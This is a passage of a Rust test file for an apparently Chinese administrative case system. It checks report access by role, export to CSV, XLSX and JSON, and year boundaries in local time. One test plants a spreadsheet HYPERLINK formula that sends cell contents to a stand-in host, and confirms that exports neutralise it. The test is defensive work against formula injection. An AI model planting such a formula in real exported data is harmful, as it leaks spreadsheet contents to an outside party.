    assert_eq!(numbers(&first.figures, FigureCode::DecisionsPublished), (0, Some(0)), "its time was running");
    sound(&now.figures);

    // Nothing of a mark that nobody can have taken yet.
    for wrong in [
        Mark { log_size: now.mark.log_size + 1, at: now.mark.at },
        Mark { log_size: 1, at: "2999-01-01T00:00:00Z".parse().expect("an instant") },
    ] {
        let asking = Asking { period: year_2024(), mark: Some(wrong) };
        let refused = later.app.figures(principal("auditor"), staff::unit("organ"), asking).await;
        assert_eq!(code(refused), Code::InputNotAcceptable);
    }
    // Of an empty beginning of the log there is nothing, and of nothing no share. The directory came first of all.
    let asking = Asking {
        period: year_2024(),
        mark: Some(Mark { log_size: 1000, at: "2024-01-01T00:00:00Z".parse().expect("an instant") }),
    };
    let refused = later.app.figures(principal("auditor"), staff::unit("organ"), asking).await;
    assert!(refused.is_err(), "nothing was known of the organ then");
}

async fn only_who_may_is_told_and_a_unit_of_its_own(backend: Backend) {
    let site = Site::new(backend).await;
    let node = site.node(4).await;
    node.delayed().await;
    let organ = staff::unit("organ");
    for who in ["expert_1", "archivist"] {
        let refused = node.app.figures(principal(who), organ, of_2024()).await;
        assert_eq!(code(refused), Code::Forbidden, "{who}");
    }
    for who in ["auditor", "justice_leader", "head", "deputy", "clerk"] {
        let taken = taken(&node, who, of_2024()).await;
        assert_eq!(taken.own, None, "{who}");
        assert_eq!(numbers(&taken.figures, FigureCode::CasesDecided), (1, None), "{who}");
        // Notices and files of supervision are shown to supervision.
        let withheld = who != "auditor";
        assert_eq!(taken.withheld.contains(&FigureCode::AccountabilityFiles), withheld, "{who}");
        assert_eq!(taken.withheld.contains(&FigureCode::NoticesIssued), withheld, "{who}");
        let listed = taken.figures.list.iter().any(|f| f.code.is_of_accountability() || f.code.is_of_notices());
        assert_ne!(listed, withheld, "{who}");
    }
    // The water bureau undertakes it: it sees its case, and of the times in it its own alone.
    let own = taken(&node, "officer", of_2024()).await;
    assert_eq!(own.own, Some(BTreeSet::from([staff::unit("water")])));
    assert_eq!(numbers(&own.figures, FigureCode::CasesDecided), (1, None));
    assert_eq!(numbers(&own.figures, FigureCode::ActsOnTime), (0, Some(1)));
    let units: BTreeSet<_> = own.figures.list.iter().filter(|f| f.about.part).filter_map(|f| f.about.unit).collect();
    assert_eq!(units, BTreeSet::from([staff::unit("water")]));
    // The finance bureau undertakes nothing.
    let none = taken(&node, "finance_officer", of_2024()).await;
    assert!(none.figures.list.iter().all(|f| f.items.is_empty()), "nothing of others");
    // Of an organ that is not theirs nobody is told whether it is there.
    let other = dingce_domain::id::UnitId::new(Uuid::from_u128(0xDEAD));
    let refused = node.app.figures(principal("auditor"), other, of_2024()).await;
    assert_eq!(code(refused), Code::NotFound);
}

const FORMULA: &str = "=HYPERLINK(\"http://a.example/?\"&A1,\"水价\")";

async fn what_could_be_a_formula_is_a_text(backend: Backend) {
    let site = Site::new(backend).await;
    let node = site.node(5).await;
    let input = node.input(None, &ask("open_case", json!({ "title": FORMULA }))).await;
    let given = serde_json::from_value(input).expect("an act");
    let done = node.app.open_case(asked("clerk"), None, given).await.expect("a case opens");
    let case = CaseId::new(done.stream.value);
    node.go_on(case, "publish_decision").await;
    node.app.settle().await.expect("background work is done");
    let taken = taken(&node, "auditor", of_2024()).await;

    // A reader that did not write it: CSV.
    let bytes = write(&taken, FigureFormat::ActsCsv).expect("it is written");
    assert!(bytes.starts_with(&[0xEF, 0xBB, 0xBF]), "a spreadsheet in China would read it as GBK");
    let mut reader = csv::Reader::from_reader(&bytes[..]);
    let heads: Vec<String> = reader.headers().expect("headings").iter().map(str::to_owned).collect();
    assert_eq!(heads[0].trim_start_matches('\u{FEFF}'), "指标代码 Code");
    let title = heads.iter().position(|head| head.starts_with("事项名称")).expect("a column of titles");
    let rows: Vec<csv::StringRecord> = reader.records().map(|row| row.expect("a row")).collect();
    let items: usize = taken.figures.list.iter().map(|f| f.items.len()).sum();
    assert_eq!(rows.len(), items, "one row a thing");
    assert!(rows.iter().any(|row| row[title] == format!("'{FORMULA}")));
    for row in &rows {
        assert_eq!(row.len(), heads.len());
        assert!(row.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{row:?}");
    }
    let bytes = write(&taken, FigureFormat::Csv).expect("it is written");
    let rows = csv::Reader::from_reader(&bytes[..]).into_records().map(|row| row.expect("a row"));
    assert_eq!(rows.count(), taken.figures.list.len(), "one row a figure");

    // A reader that did not write it: the workbook.
    let bytes = write(&taken, FigureFormat::Xlsx).expect("it is written");
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).expect("a workbook");
    assert_eq!(book.sheet_names(), ["指标 Figures", "行为 Acts", "说明 About"]);
    let sheet = book.worksheet_range("行为 Acts").expect("the acts");
    assert_eq!(sheet.height(), items + 1);
    let titles: Vec<&Data> = sheet.rows().skip(1).filter_map(|row| row.get(title)).collect();
    assert!(titles.contains(&&Data::String(FORMULA.to_owned())), "as it stands: {titles:?}");
    for name in ["指标 Figures", "行为 Acts", "说明 About"] {
        let formulas = book.worksheet_formula(name).expect("a sheet");
        assert!(formulas.used_cells().next().is_none(), "{name} holds a formula");
    }
    let figures = book.worksheet_range("指标 Figures").expect("the figures");
    assert_eq!(figures.height(), taken.figures.list.len() + 1);
    let decided = figures.rows().find(|row| row[0] == Data::String("cases_decided".to_owned())).expect("a row");
    let numerator = heads_of(&figures).iter().position(|head| head.starts_with("分子")).expect("a column");
    assert_eq!(decided[numerator], Data::Float(1.0));
    // Of nothing there is no share.
    let share = heads_of(&figures).iter().position(|head| head.starts_with("比例")).expect("a column");
    let experts = figures.rows().find(|row| row[0] == Data::String("experts_heard".to_owned())).expect("a row");
    assert_eq!(experts[share], Data::String("无 none".to_owned()));

    // JSON is what it says, and whole.
    let json: Value = serde_json::from_slice(&write(&taken, FigureFormat::Json).expect("it is written")).expect("JSON");
    assert_eq!((&json["format"], &json["taken_as"]), (&json!("dingce.figures/v0"), &json!(taken.mark.to_string())));
    assert_eq!(json["figures"].as_array().map(Vec::len), Some(taken.figures.list.len()));
}

fn heads_of(sheet: &calamine::Range<Data>) -> Vec<String> {
    sheet.rows().next().map(|row| row.iter().map(ToString::to_string).collect()).unwrap_or_default()
}

/// The year ends at midnight where the organ is, which is 16:00 of the same day in UTC.
async fn a_day_belongs_to_the_period_in_which_it_is_where_the_organ_is(backend: Backend) {
    let site = Site::new(backend).await;
    let node = site.node(6).await;
    node.clock.move_to(date(2024, 12, 10), 10);
    let case = node.road_to("open_solicitation").await;
    node.app.settle().await.expect("the consultation opens");
    let consultation = node.consultation(case).await;
    for (day, hour) in [(date(2024, 12, 31), 23), (date(2025, 1, 1), 0), (date(2025, 1, 1), 1)] {
        node.clock.move_to(day, hour);
        node.comment(consultation, "意见").await.expect("a comment is taken");
    }
    let received = async |period: Period| {
        let taken = taken(&node, "auditor", Asking { period, mark: None }).await;
        sound(&taken.figures);
        numbers(&taken.figures, FigureCode::CommentsReceived).0
    };
    assert_eq!(received(year_2024()).await, 1);
    assert_eq!(received(Period::of_year(2025).expect("a year")).await, 2);
    assert_eq!(received(Period::new(date(2024, 12, 31), date(2025, 1, 1)).expect("two days")).await, 3);
    assert_eq!(received(Period::of_year(2023).expect("a year")).await, 0);
    // While people may still write, nobody has to answer.
    let taken = taken(&node, "auditor", Asking { period: year_2024(), mark: None }).await;
    assert_eq!(numbers(&taken.figures, FigureCode::CommentsAnswered), (0, Some(0)));
    assert_eq!(apart(&taken.figures, FigureCode::CommentsAnswered), [(Apart::NotYet, 1)]);
}
